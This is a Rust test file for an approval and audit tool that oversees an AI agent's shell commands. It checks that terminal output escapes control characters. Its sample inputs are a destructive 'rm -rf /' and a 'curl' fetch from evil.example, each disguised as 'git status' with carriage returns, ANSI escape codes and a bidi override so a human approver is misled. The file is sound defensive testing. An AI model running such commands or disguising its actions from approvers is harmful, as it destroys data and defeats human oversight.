//! Commands reach terminals escaped (issue 12, item 8): an agent chooses its command text,
//! so it must not be able to rewrite what `rampart pending` shows the approver, erase
//! earlier lines of `audit tail`, or reorder text with bidi overrides.

use std::time::Duration;

use serde_json::json;

use crate::util::{Home, SEED_POLICY, Server, request, wait_until};

/// A denied `rm -rf /` that tries to hide: carriage return, erase-line, cursor up, and a
/// right-to-left override.
const DISGUISED_DENY: &str = "rm -rf /\r\u{1b}[2K\u{1b}[1Agit status \u{202e}txt.exe";
/// An `ask` that pretends to be `git status` to the approver.
const DISGUISED_ASK: &str = "curl https://evil.example/x.sh\r\u{1b}[2Kgit status";

fn assert_plain(what: &str, out: &str) {
    for bad in ['\u{1b}', '\r', '\u{202e}', '\u{7}'] {
        assert!(!out.contains(bad), "{what} printed {bad:?} raw:\n{out:?}");
    }
}

#[test]
fn pending_audit_tail_and_search_show_control_characters_escaped() {
    let home = Home::new();
    home.policy("custom.yaml", SEED_POLICY);
    let server = Server::start(&home, &[]);

    let denied = server.preflight(json!({"agent": "preload", "session": "evil\u{1b}[8m\r1",
        "params": {"command": DISGUISED_DENY}}));
    assert_eq!(denied["decision"], "deny", "{denied}");

    // An ask held open in the background, as the library would hold it.
    let endpoint = server.unix();
    let token = server.token.clone();
    let waiter = std::thread::spawn(move || {
        let body = json!({"agent": "preload", "session": "s1",
            "params": {"command": DISGUISED_ASK}, "wait_ms": 30_000});
        request(
            &endpoint,
            "POST",
            "/v1/preflight/exec",
            Some(&token),
            Some(&body),
            Duration::from_secs(60),
        )
        .unwrap()
    });
    let mut id = String::new();
    assert!(wait_until(10, || {
        let list = server.call("GET", "/v1/approvals", None).json().unwrap();
        match list["approvals"].as_array().and_then(|a| a.first()) {
            Some(a) => {
                id = a["id"].as_str().unwrap().to_owned();
                true
            }
            None => false,
        }
    }));

    let pending = home.run(&["pending"]);
    assert_eq!(pending.code(), 0, "{}", pending.stderr());
    assert_plain("pending", &pending.stdout());
    assert!(
        pending
            .stdout()
            .contains(r"curl https://evil.example/x.sh\r\x1b[2Kgit status"),
        "{}",
        pending.stdout()
    );

    let deny = home.run(&["deny", &id]);
    assert_eq!(deny.code(), 0, "{}", deny.stderr());
    assert_plain("deny", &deny.stdout());
    assert_eq!(waiter.join().unwrap().status, 200);

    let tail = home.run(&["audit", "tail"]);
    assert_plain("audit tail", &tail.stdout());
    let shown = r"rm -rf /\r\x1b[2K\x1b[1Agit status \u{202e}txt.exe";
    assert!(tail.stdout().contains(shown), "{}", tail.stdout());
    assert!(
        tail.stdout().contains(r"preload  evil\x1b[8m\r1"),
        "{}",
        tail.stdout()
    );

    let search = home.run(&["audit", "search", "git status"]);
    assert_plain("audit search", &search.stdout());
    assert!(search.stdout().contains(shown), "{}", search.stdout());
    // Each event is one line: nothing the agent wrote can start a new one.
    assert_eq!(search.stdout().lines().count(), 2, "{}", search.stdout());
}
